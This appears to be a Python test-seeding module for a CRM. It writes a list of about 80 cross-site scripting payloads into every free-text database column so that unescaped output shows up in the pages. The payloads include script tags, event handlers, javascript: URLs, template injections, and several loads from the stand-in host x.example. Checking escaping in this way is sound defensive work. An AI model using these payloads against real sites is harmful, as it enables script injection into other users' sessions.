"""Texts that run as a script where a page forgets to escape them, and the columns that people can fill with them."""

from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from typing import Any, Final

import sqlalchemy as sa

from crm.core.db import Base

#: Each holds this word, by which searches and pickers find it.
WORD: Final = "zqx"
PAYLOADS: Final = (
    "zqx<script>alert(1)</script>",
    "zqx<SCRIPT>alert(1)</SCRIPT >",
    "zqx<script src=//x.example/a.js></script>",
    "zqx<script src=data:,alert(1)></script>",
    "zqx<scr<script>ipt>alert(1)</scr</script>ipt>",
    "zqx</script><script>alert(1)</script>",
    "zqx<script\x0bx>alert(1)</script>",
    "zqx<script/x>alert(1)</script>",
    "zqx<<script>alert(1)//<</script>",
    "zqx<img src=x onerror=alert(1)>",
    'zqx<img src="x" onerror="alert(1)">',
    "zqx<img/src=x/onerror=alert(1)>",
    "zqx<IMG SRC=x oNeRRoR=alert(1)>",
    "zqx<img src=x onerror=&#97;lert(1)>",
    "zqx<img src=`x` onerror=alert(1)>",
    'zqx<img """><script>alert(1)</script>">',
    "zqx<image src=x onerror=alert(1)>",
    "zqx<svg onload=alert(1)>",
    "zqx<svg/onload=alert(1)>",
    "zqx<svg><script>alert(1)</script></svg>",
    "zqx<svg><animate onbegin=alert(1) attributeName=x>",
    "zqx<svg><a xlink:href=javascript:alert(1)><text y=9>x",
    "zqx<math><mi xlink:href=data:,x><script>alert(1)</script>",
    "zqx<math href=javascript:alert(1)>x</math>",
    "zqx<body onload=alert(1)>",
    "zqx<body onpageshow=alert(1)>",
    "zqx<input autofocus onfocus=alert(1)>",
    "zqx<select autofocus onfocus=alert(1)>",
    "zqx<textarea autofocus onfocus=alert(1)>",
    "zqx<details open ontoggle=alert(1)>",
    "zqx<video><source onerror=alert(1)>",
    "zqx<audio src=x onerror=alert(1)>",
    "zqx<marquee onstart=alert(1)>",
    "zqx<iframe src=javascript:alert(1)>",
    "zqx<iframe srcdoc='<script>alert(1)</script>'>",
    "zqx<iframe onload=alert(1)>",
    "zqx<object data=javascript:alert(1)>",
    "zqx<object data='data:text/html,<script>alert(1)</script>'>",
    "zqx<embed src=javascript:alert(1)>",
    "zqx<form action=javascript:alert(1)><button>go",
    "zqx<button formaction=javascript:alert(1)>go",
    "zqx<a href=javascript:alert(1)>x</a>",
    "zqx<a href='java\tscript:alert(1)'>x</a>",
    "zqx<base href=//x.example/>",
    "zqx<link rel=stylesheet href=//x.example/a.css>",
    "zqx<style>@import'//x.example/a.css';</style>",
    "zqx<style>*{background:url(//x.example/b)}</style>",
    "zqx<p style='background:url(javascript:alert(1))'>",
    "zqx<p style=color:red onmouseover=alert(1)>x",
    "zqx<meta http-equiv=refresh content='0;url=//x.example'>",
    "zqx<meta charset=utf-7>+ADw-script+AD4-alert(1)",
    'zqx"><script>alert(1)</script>',
    "zqx'><script>alert(1)</script>",
    'zqx" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "zqx' onfocus='alert(1)' autofocus='",
    "zqx` onfocus=alert(1) autofocus `",
    'zqx"onerror=alert(1) src=x "',
    "zqx</textarea><script>alert(1)</script>",
    "zqx</title><script>alert(1)</script>",
    "zqx</option></select><img src=x onerror=alert(1)>",
    "zqx</style><script>alert(1)</script>",
    "zqx--><script>alert(1)</script>",
    "zqx]]><script>alert(1)</script>",
    'zqx\\";alert(1)//',
    "zqx';alert(1)//",
    "zqx${alert(1)}",
    "zqx{{7*7}}{%print 7%}",
    "zqx{{constructor.constructor('alert(1)')()}}",
    "zqx[x](javascript:alert(1))",
    'zqx![x](x"onerror=alert(1)//)',
    "zqx<javascript:alert(1)>",
    "zqx[x]: javascript:alert(1)",
    "zqx&lt;script&gt;alert(1)&lt;/script&gt;",
    r"zqx\u003cscript\u003ealert(1)\u003c/script\u003e",
    "zqx＜script＞alert(1)＜/script＞",
    "zqx\u202e<img src=x onerror=alert(1)>",
    "zqx<img src=x\nonerror\n=\nalert(1)>",
    "zqx<template shadowrootmode=open><script>alert(1)</script>",
    "zqx<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "zqx<xss id=x tabindex=1 onfocus=alert(1) contenteditable>",
    "zqx<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>",
    "zqx<p hx-get=/logout hx-trigger=load>x",
)  # fmt: skip

#: Why a column of text is left as it is, by its name or by table.column; every other one is filled.
MADE_HERE: Final[Mapping[str, str]] = {
    "a code from a list: a form refuses anything else": """
        access action asked_by basis certainty channel colour country direction engagement_file.mark
        firm_role flow frequency gift_rule holidays issue_citation.source kind language level maker_kind mapping
        series.measure meeting_rule observation.source observation.status official_class origin_rule our_role
        import_row.outcome issue_client.position conflict_position.position relation conflict_hit.why
        preferred_channel preset priority receiver_kind report_language request_channel role seasonal series.source
        series.unit state status track zone time_zone value_currency value_period page format indicator_load.source
        engagement_version.field media_type fee_basis fee_currency fee_rhythm lost_reason opportunity.source
        due_zone invitation.method task.rule rule_skip notice.occasion notice.way notice_wish.ways notice_wish.weekdays
        notice_watch.name alert_event.source partner us_state mx_state mode hs_detail commodity_group
        advisory.rule advisory_client.skipped report.sections report_definition.sections report_definition.period
        way""",
    "checked to be a code, a number or an address": """
        code email hs_code phone person_phone.number person_email.address tax_id postal_code schedule_c hs_chapters
        headings naics follow follow_ports port_code series.key advisory_client.address
        report_sending.address report.figures report_definition.figures""",
    "folded text for search and order: never shown, filled apart": """
        name_key title_key place_key key_en key_es value_key search_text""",
    "a digest, a random word or a name that the product gives": """
        sha256 key ids_key token_hash fs_uniquifier password digest claim once duplicate_pair.mark import_memory.heading
        firm_setting.key sent_form.address key_date_task.entry engagement_draft.name source_state.key""",
    "what the product writes for itself, differences of texts among it": """
        job.payload job.kept job.result import_batch.settings import_batch.counts import_memory.answers columns
        report_version.document report_version.records report_version.figures
        engagement_version.body engagement_part_version.body handover.moved handover.left source_file.told
        source_state.told""",
}
#: Addresses keep their beginning, which the form checks.
WEB: Final = frozenset({"website", "url", "evidence_url"})
QUERIES: Final = frozenset({"query"})


def reason(column: sa.Column[Any]) -> str:
    """Return why a column is left alone, '' where it is filled."""
    if column.foreign_keys:
        return "a reference"
    names = {column.name, f"{column.table.name}.{column.name}"}
    return next((why for why, those in MADE_HERE.items() if names.intersection(those.split())), "")


def columns() -> Iterator[sa.Column[Any]]:
    """Yield every column that people fill with words."""
    for table in Base.metadata.sorted_tables:
        for column in table.columns:
            if isinstance(column.type, sa.String | sa.JSON) and not reason(column):
                yield column


FREE: Final = frozenset(column.name for column in columns() if isinstance(column.type, sa.String))
#: Settings of the firm that are words.
FIRM_WORDS: Final = frozenset({
    "firm_name", "offices", "brand_letterhead", "brand_footer_en", "brand_footer_es", "brand_notice_en",
    "brand_notice_es",
})  # fmt: skip
WORDY: Final = FREE | FIRM_WORDS | {"en", "es"}


def text_for(column: sa.Column[Any], start: int) -> str:
    """Return payloads from one on, as many as the column holds: at least one in the lists, all in a note."""
    longest = getattr(column.type, "length", None) or 20_000
    head = "https://x.example/" if column.name in WEB else "q=" if column.name in QUERIES else ""
    found = head
    for payload in (*PAYLOADS[start % len(PAYLOADS) :], *PAYLOADS[: start % len(PAYLOADS)]):
        if len(found) + len(payload) + 1 <= longest:
            found += payload + (" " if longest < 20_000 else "\n\n")
    return found.rstrip() or PAYLOADS[start % len(PAYLOADS)][:longest]


def json_for(value: Any, payload: str) -> Any:
    """Return a stored structure whose words are payloads; what its keys say is a code stays."""
    if isinstance(value, dict):
        return {
            key: payload if isinstance(part, str) and key in WORDY else json_for(part, payload)
            for key, part in value.items()
        }
    if isinstance(value, list) and value and isinstance(value[0], str) and value[0] in WORDY:
        # What a trail says: [field, old, new].
        return [value[0], *(payload if isinstance(part, str) else part for part in value[1:])]
    if isinstance(value, list):
        return [json_for(part, payload) for part in value]
    return value


def takes_words(connection: sa.Connection) -> frozenset[int]:
    """Return the firm's own fields of kind text: the others hold numbers, days and codes."""
    fields = Base.metadata.tables["custom_field"]
    return frozenset(connection.execute(sa.select(fields.c.id).where(fields.c.kind == "text")).scalars())


def fill(connection: sa.Connection, shift: int) -> Counter[str]:
    """Put payloads into every filled column of every row; returns the number of values by table.column."""
    written, own = Counter[str](), takes_words(connection)
    by_table: dict[sa.Table, list[sa.Column[Any]]] = {}
    for column in columns():
        by_table.setdefault(column.table, []).append(column)
    for table, those in by_table.items():
        keys = list(table.primary_key.columns)
        for at, row in enumerate(connection.execute(sa.select(table).order_by(*keys)).mappings().all()):
            if table.name == "client_value" and row["field_id"] not in own:
                continue
            new = ((column.name, value_for(column, row, at + 7 * place + shift)) for place, column in enumerate(those))
            values = {name: value for name, value in new if value is not None}
            written.update(f"{table.name}.{name}" for name in values)
            if values:
                connection.execute(sa.update(table).where(*(key == row[key.name] for key in keys)).values(values))
        find(connection, table, keys)
    return written


def value_for(column: sa.Column[Any], row: sa.RowMapping, start: int) -> Any:
    """Return what a cell is filled with, None where it has no words."""
    old = row[column.name]
    if old is None:
        return None
    if isinstance(column.type, sa.String):
        return text_for(column, start)
    if row.get("key") in FIRM_WORDS:
        return text_for(column, start)[:120]
    if (column.table.name, column.name) in {("import_batch", "heading"), ("import_row", "reasons")}:
        return [PAYLOADS[(start + n) % len(PAYLOADS)] for n, _old in enumerate(old)]
    return json_for(old, PAYLOADS[start % len(PAYLOADS)])


def find(connection: sa.Connection, table: sa.Table, keys: Sequence[sa.Column[Any]]) -> None:
    """Let searches and pickers find the rows by the word, each with a key of its own."""
    for name in ("search_text", "name_key", "key_en", "key_es", "title_key"):
        if name in table.c and len(keys) == 1:
            word = sa.literal(f"{WORD} ").concat(sa.cast(keys[0], sa.String))
            connection.execute(sa.update(table).values({name: word}))
